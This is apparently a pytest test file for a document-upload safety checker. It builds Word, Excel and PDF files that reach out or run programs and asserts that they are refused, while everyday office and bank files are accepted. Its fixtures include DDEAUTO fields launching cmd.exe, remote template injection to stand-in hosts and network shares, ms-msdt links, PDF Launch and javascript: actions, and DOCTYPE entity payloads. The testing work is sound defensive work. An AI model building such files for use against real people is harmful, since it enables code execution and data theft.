"""Files that open addresses, start programs or carry other files: refused in files of people as in paper templates.

Each is made as a sender of mischief makes it; beside it stands what every office sends daily and must be taken.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from documents.content import type_of
from documents.refusal import UploadRefused
from documents.worded.safety import look
from tests.documents.test_files import docx, invoice, pdf, repacked, xlsx

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SAMPLES = Path(__file__).parent / "samples"


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    one = f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return f'<Relationships xmlns="{RELATIONS}">{one}</Relationships>'.encode()


def leading(kind: str, target: str) -> bytes:
    """A Word file with a relation to elsewhere."""
    return repacked(docx(), {"word/_rels/header9.xml.rels": relation(kind, target)})


def run(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def said(words: str) -> str:
    return f"<w:r><w:instrText>{words}</w:instrText></w:r>"


def with_field(*runs: str) -> bytes:
    """A Word file whose header holds a field."""
    return repacked(docx(), {"word/header9.xml": f"<w:hdr {W}><w:p>{''.join(runs)}</w:p></w:hdr>".encode()})


def field(*pieces: str) -> bytes:
    """A field whose instruction is split over several runs."""
    return with_field(run("begin"), *map(said, pieces), run("separate"), run("end"))


OFFICE_REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a template on the web": ("carried", lambda: leading("attachedTemplate", "https://xau.example/m.dotm"), "mẫu"),
    "a template on a share": ("carried", lambda: leading("attachedTemplate", "\\\\10.0.0.9\\m\\m.dotm"), "mẫu"),
    "a share by file://": ("carried", lambda: leading("attachedTemplate", "file://10.0.0.9/m/m.dotm"), "mẫu"),
    "a share, percented": ("carried", lambda: leading("attachedTemplate", "file:%5C%5C10.0.0.9%5Cm.dotm"), "mẫu"),
    "an object from the web": ("carried", lambda: leading("oleObject", "mhtml:https://xau.example/x!y"), "OLE"),
    "a picture that tells who opened it": (
        "external",
        lambda: leading("image", "https://xau.example/1.gif"),
        "xau.example",
    ),
    "a frame": ("carried", lambda: leading("frame", "https://xau.example/"), "khung"),
    "a link that starts a program": ("external", lambda: leading("hyperlink", "ms-msdt:/id x"), "ms-msdt"),
    "a piece of another file": (
        "carried",
        lambda: repacked(docx(), {"word/_rels/a.xml.rels": relation("aFChunk", "/word/a.rtf", "")}),
        "đoạn nhập",
    ),
    "an embedded object": (
        "carried",
        lambda: repacked(docx(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "tệp nhúng",
    ),
    "a DDE field": ("dde", lambda: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "DDEAUTO"),
    "a DDE field in pieces": ("dde", lambda: field(" DD", 'E "c:\\\\cmd.exe" "/k calc" '), "DDE"),
    "a simple DDE field": (
        "dde",
        lambda: with_field('<w:fldSimple w:instr=" dde cmd /k "><w:r><w:t>x</w:t></w:r></w:fldSimple>'),
        "DDE",
    ),
    "a field that makes up its own name": (
        "dde",
        lambda: with_field(
            run("begin"), run("begin"), said("QUOTE 68 68 69"), run("separate"), run("end"), said(" cmd"), run("end")
        ),
        "tự ghép tên",
    ),
    "a field that is never ended": ("dde", lambda: with_field(run("begin"), said(" DDE cmd x ")), "DDE"),
    "a text from elsewhere": ("dde", lambda: field(' INCLUDETEXT "https://xau.example/a.docx" '), "INCLUDETEXT"),
    "a picture from a share": ("dde", lambda: field(' INCLUDEPICTURE "\\\\\\\\10.0.0.9\\\\a.png" '), "INCLUDEPICTURE"),
    "a DOCTYPE in a part": (
        "doctype",
        lambda: repacked(docx(), {"customXml/item9.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "DOCTYPE",
    ),
    "a DOCTYPE in UTF-16": (
        "doctype",
        lambda: repacked(docx(), {"word/a.xml": '<?xml version="1.0"?><!DOCTYPE a><a/>'.encode("utf-16")}),
        "DOCTYPE",
    ),
}
OFFICE_TAKEN: dict[str, Callable[[], bytes]] = {
    "a link to a web page": lambda: leading("hyperlink", "https://angiang.example/"),
    "a link to write a mail": lambda: leading("hyperlink", "mailto:ai-do@angiang.example"),
    "a template on the author's own disk": lambda: leading(
        "attachedTemplate", "file:///C:\\Users\\Lan\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"
    ),
    "a template beside the file": lambda: leading("attachedTemplate", "mau/Cong%20van.dotx"),
    "a picture on the author's own disk": lambda: leading("image", "file:///D:/anh/may.jpg"),
    "a table of contents": lambda: field(' TOC \\o "1-3" \\h \\z \\u '),
    "numbers of pages": lambda: field(" PAGE "),
    "a picture field of the own disk": lambda: field(' INCLUDEPICTURE "C:\\\\anh\\\\may.png" \\* MERGEFORMAT '),
    "a field within a field": lambda: with_field(
        run("begin"), said(' IF "'), run("begin"), said(" PAGE "), run("end"), said('" = "1" "a" "b" '), run("end")
    ),
    "settings of a printer": lambda: repacked(docx(), {"word/printerSettings1.bin": b"\0" * 40}),
}


@pytest.mark.parametrize("what", OFFICE_REFUSED)
def test_a_word_file_that_reaches_out_is_refused_with_its_reason(what: str) -> None:
    code, make, says = OFFICE_REFUSED[what]
    data = make()
    with pytest.raises(UploadRefused) as refused:
        type_of(io.BytesIO(data), "don.docx")
    assert refused.value.code == code
    assert says in refused.value.message
    assert "don.docx" in refused.value.message
    # The same look, and the same finding, at a template of papers.
    assert any(says in str(one) or one.code == code for one in look(data, "don.docx"))


@pytest.mark.parametrize("what", OFFICE_TAKEN)
def test_what_every_word_file_has_is_taken(what: str) -> None:
    type_of(io.BytesIO(OFFICE_TAKEN[what]()), "don.docx")


@pytest.mark.parametrize("kind", ["hyperlink", "attachedTemplate"])
def test_a_template_of_papers_is_held_to_more(kind: str) -> None:
    found = look(leading(kind, "https://angiang.example/x"), "mau.docx")
    assert [one.code for one in found]


SHEET = "xl/externalLinks/externalLink1.xml"


@pytest.mark.parametrize(
    ("code", "more"),
    [
        ("dde", {SHEET: b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
        ("dde", {SHEET: b'<externalLink><oleLink progId="Package"/></externalLink>'}),
        ("carried", {"xl/embeddings/oleObject1.bin": b"x"}),
        ("carried", {"xl/_rels/workbook.xml.rels": relation("connections", "connections.xml", "")}),
        ("external", {f"{SHEET}.rels": relation("externalLinkPath", "\\\\10.0.0.9\\a\\gia.xlsx")}),
        ("external", {f"{SHEET}.rels": relation("externalLinkPath", "https://xau.example/gia.xlsx")}),
    ],
)
def test_a_workbook_that_reaches_out_is_refused(code: str, more: dict[str, bytes]) -> None:
    with pytest.raises(UploadRefused) as refused:
        type_of(io.BytesIO(repacked(xlsx(), more)), "gia.xlsx")
    assert refused.value.code == code


@pytest.mark.parametrize(
    "more",
    [
        {"xl/printerSettings/printerSettings1.bin": b"\0" * 40},
        {
            SHEET: b"<externalLink><externalBook/></externalLink>",
            f"{SHEET}.rels": relation("externalLinkPath", "gia-nam-truoc.xlsx"),
        },
    ],
)
def test_what_every_workbook_has_is_taken(more: dict[str, bytes]) -> None:
    type_of(io.BytesIO(repacked(xlsx(), more)), "gia.xlsx")


# ── PDF ──────────────────────────────────────────────────────────────────────────────────────────


def at_opening(**action: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(**action)

    return change


def pressed(**action: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))
        made.pages[0].Annots = Array([link])

    return change


def on_turning_the_page(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.GoToR, F="\\\\10.0.0.9\\x.pdf", D=Array([0])))


def after_a_harmless_one(made: pikepdf.Pdf) -> None:
    then = made.make_indirect(Dictionary(S=Name.URI, URI="https://xau.example/"))
    made.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([then]))


def with_a_stream_from_elsewhere(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = made.make_stream(b"", F=Dictionary(FS=Name.URL, F="https://xau.example/x"))


def with_a_page_from_elsewhere(made: pikepdf.Pdf) -> None:
    form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, Ref=Dictionary(F="\\\\10.0.0.9\\x.pdf"))
    made.pages[0].Resources = Dictionary(XObject=Dictionary(X=form))


def with_xml(*data: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        for place, one in enumerate(data):
            made.attachments[f"hoa-don-{place}.xml"] = one

    return change


PDF_REFUSED: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
    "an address that opens by itself": (at_opening(S=Name.URI, URI="https://xau.example/"), "tự mở"),
    "a file of another machine, by itself": (at_opening(S=Name.GoToR, F="\\\\10.0.0.9\\x.pdf", D=Array([0])), "tự mở"),
    "an address on turning the page": (on_turning_the_page, "tự mở"),
    "an address behind a harmless action": (after_a_harmless_one, "tự mở"),
    "a form that is sent": (pressed(S=Name.SubmitForm, F="https://xau.example/"), "gửi dữ liệu"),
    "a program behind a link": (pressed(S=Name.Launch, F="cmd.exe"), "mở chương trình"),
    "a script behind a link": (pressed(S=Name.URI, URI="javascript:alert(1)"), "liên kết"),
    "a file behind a link": (pressed(S=Name.URI, URI="file:///etc/passwd"), "liên kết"),
    "a share behind a link": (pressed(S=Name.GoToR, F=Dictionary(F="//10.0.0.9/x.pdf"), D=Array([0])), "tự mở"),
    "content from elsewhere": (with_a_stream_from_elsewhere, "nạp từ nơi khác"),
    "a page from elsewhere": (with_a_page_from_elsewhere, "nạp từ nơi khác"),
    "an attachment that is no XML": (with_xml(invoice(), b"MZ\x90\0"), "đính kèm"),
    "an attached page that calls itself XML": (with_xml(b"<html><script>alert(1)</script></html>"), "đính kèm"),
    "an attached XML with a DOCTYPE": (with_xml(invoice(doctype="<!DOCTYPE HDon>")), "đính kèm"),
    "more attachments than an invoice has": (with_xml(*[invoice() + b" " * n for n in range(6)]), "đính kèm"),
}
PDF_TAKEN: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "a link to a web page": pressed(S=Name.URI, URI="https://nganhang.example/"),
    "a link without a scheme": pressed(S=Name.URI, URI="www.nganhang.example"),
    "a link to a page of the file": pressed(S=Name.GoTo, D=Array([0])),
    "a page to begin at": at_opening(S=Name.GoTo, D=Array([0])),
    "the file beside it": pressed(S=Name.GoToR, F="phu-luc.pdf", D=Array([0])),
    "an invoice with its XML inside": with_xml(invoice()),
}


@pytest.mark.parametrize("what", PDF_REFUSED)
def test_a_pdf_that_reaches_out_is_refused_with_its_reason(what: str) -> None:
    change, says = PDF_REFUSED[what]
    with pytest.raises(UploadRefused) as refused:
        type_of(io.BytesIO(pdf(change)), "sao-ke.pdf")
    assert refused.value.code == "active_pdf"
    assert says in refused.value.message


@pytest.mark.parametrize("what", PDF_TAKEN)
def test_what_every_bank_export_has_is_taken(what: str) -> None:
    type_of(io.BytesIO(pdf(PDF_TAKEN[what])), "sao-ke.pdf")


def test_an_action_that_follows_itself_for_ever_is_refused() -> None:
    def endless(made: pikepdf.Pdf) -> None:
        action = made.make_indirect(Dictionary(S=Name.GoTo, D=Array([0])))
        action.Next = action
        made.Root.OpenAction = action

    with pytest.raises(UploadRefused) as refused:
        type_of(io.BytesIO(pdf(endless)), "a.pdf")
    assert refused.value.code == "damaged"


@pytest.mark.parametrize("change", [lambda made: None, PDF_REFUSED["an address that opens by itself"][0]])
def test_a_pdf_with_an_owners_password_is_looked_into_like_any_other(change: Callable[[pikepdf.Pdf], None]) -> None:
    """Banks lock what may be done with a slip, not the slip; what is inside still counts."""
    data = pdf(change, encryption=pikepdf.Encryption(owner="o", user="", R=6))
    if change is PDF_REFUSED["an address that opens by itself"][0]:
        with pytest.raises(UploadRefused):
            type_of(io.BytesIO(data), "uy-nhiem-chi.pdf")
    else:
        assert type_of(io.BytesIO(data), "uy-nhiem-chi.pdf") == "application/pdf"


def test_the_slip_of_a_bank_is_taken() -> None:
    slip = SAMPLES / "bank-slip-owner-password.pdf"
    with slip.open("rb") as file:
        assert type_of(file, slip.name) == "application/pdf"
